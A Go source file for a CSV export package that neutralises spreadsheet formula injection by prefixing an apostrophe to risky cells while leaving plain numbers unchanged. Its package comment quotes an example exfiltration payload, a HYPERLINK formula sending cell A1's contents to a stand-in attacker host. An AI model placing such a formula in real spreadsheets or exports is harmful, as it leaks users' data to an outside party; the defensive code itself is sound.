// Package csvx is the one CSV writer for every export: encoding/csv plus neutralisation
// of spreadsheet formulas (CSV injection, OWASP). A cell that starts with = + - @, a tab
// or a carriage return is read as a formula by Excel, LibreOffice and Google Sheets
// (`=HYPERLINK("https://evil.example?"&A1, "click")` in an hour description); such a cell
// is written with a leading apostrophe, which spreadsheets show as text. Plain numbers
// ("-12.50") are left alone: they cannot be formulas and must stay numbers.
package csvx

import (
	"encoding/csv"
	"io"

	"backoffice/internal/money"
)

// Safe returns the cell neutralised for spreadsheets.
func Safe(cell string) string {
	if cell == "" {
		return cell
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r', '\n', '|', '%':
		if money.StrictGrammar(cell) {
			return cell
		}
		return "'" + cell
	}
	return cell
}

// Writer writes neutralised CSV records.
type Writer struct{ w *csv.Writer }

// NewWriter returns a Writer on w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record, every cell passed through Safe.
func (w *Writer) Write(record []string) error {
	safe := make([]string, len(record))
	for i, c := range record {
		safe[i] = Safe(c)
	}
	return w.w.Write(safe)
}

// WriteAll writes the records and flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.w.Flush()
	return w.w.Error()
}

// Flush writes buffered data.
func (w *Writer) Flush() { w.w.Flush() }

// Error reports an error from a previous Write or Flush.
func (w *Writer) Error() error { return w.w.Error() }
